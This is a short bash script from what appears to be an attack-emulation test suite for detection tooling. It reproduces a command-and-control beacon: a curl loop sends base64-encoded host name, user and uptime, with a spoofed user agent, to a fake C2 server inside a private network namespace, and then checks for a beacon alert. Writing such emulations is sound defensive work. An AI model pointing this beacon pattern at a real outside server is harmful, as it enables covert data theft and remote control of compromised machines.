#!/bin/bash
# vigil-emulation: attack
# technique: T1071.001 Application Layer Protocol: Web Protocols; T1132.001 Data Encoding: Standard Encoding
# tactic: command-and-control
# what: a beacon: every half second for six seconds, curl sends the host name, user and
#   uptime base64-encoded in the URL to a "C2 server" on the far end of a veth pair
#   (198.18.x.2, a private network namespace), with a fixed odd user agent, and reads
#   the "task" it answers.
# report: periodic HTTP requests with encoded host data from a shell loop to a non-local
#   address (a beacon).
# expect: beacon|c2|command and control|command-and-control
. "${EMUL_LIB:-$(dirname "$0")/../lib}/common.sh"
emul_need curl ip

emul_veth_pair
emul_tmpdir
mkdir -p "$EMUL_DIR/www/tasks"
echo sleep >"$EMUL_DIR/www/tasks/next"
: >"$EMUL_DIR/ready"
emul_bg ip netns exec "$EMUL_NS" "$PY" "$SERVERS" http --host "$EMUL_PEER_IP" \
    --dir "$EMUL_DIR/www" --ready-file "$EMUL_DIR/ready"
port=$(emul_ready "$EMUL_DIR/ready")
for i in $(seq 1 12); do
    info=$(printf '%s|%s|%s' "$(hostname)" "$(id -un)" "$(cut -d' ' -f1 /proc/uptime)" | base64 -w0)
    curl -s -A 'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)' \
        "http://$EMUL_PEER_IP:$port/tasks/next?id=$info" >/dev/null
    sleep 0.5
done
echo "beaconed 12 times"
